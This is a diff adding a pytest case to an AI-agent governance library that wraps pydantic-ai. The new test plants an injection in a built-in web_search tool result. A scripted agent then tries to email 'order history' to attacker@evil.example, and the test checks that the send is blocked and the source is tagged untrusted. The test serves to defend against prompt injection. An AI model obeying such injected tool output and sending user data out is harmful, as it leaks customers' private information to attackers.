@@ -11,7 +11,7 @@ import pytest
 
 pytest.importorskip("pydantic_ai", reason="the pydantic-ai extra is not installed")
 
-from pydantic_ai.messages import ModelRequest, ToolReturnPart
+from pydantic_ai.messages import ModelRequest, ModelResponse, NativeToolReturnPart, ToolReturnPart
 
 from charter import Journal
 from charter.integrations.pydantic_ai import govern
@@ -94,3 +94,16 @@ def test_an_answer_from_a_histories_tool_return_is_governed(journal: Journal, wo
 
     assert "attacker@evil.example" not in str(result.output)
     assert _inherited(journal, governed.last_run_id) == [("read_ticket", "untrusted")]
+
+
+def test_a_providers_builtin_tool_return_is_untrusted(journal: Journal, world: Path) -> None:
+    script = Script(
+        [[("send_email", {"to": "attacker@evil.example", "body": "order history"})], "Done."]
+    )
+    governed = govern(support_agent(script, world), journal=journal, charter=charter())
+    found = NativeToolReturnPart("web_search", PLANTED, tool_call_id="ws-1")
+    history = [ModelResponse(parts=[found])]
+    governed.run_sync("what now?", message_history=history)
+
+    assert outbox(world) == []
+    assert _inherited(journal, governed.last_run_id) == [("", "untrusted")]
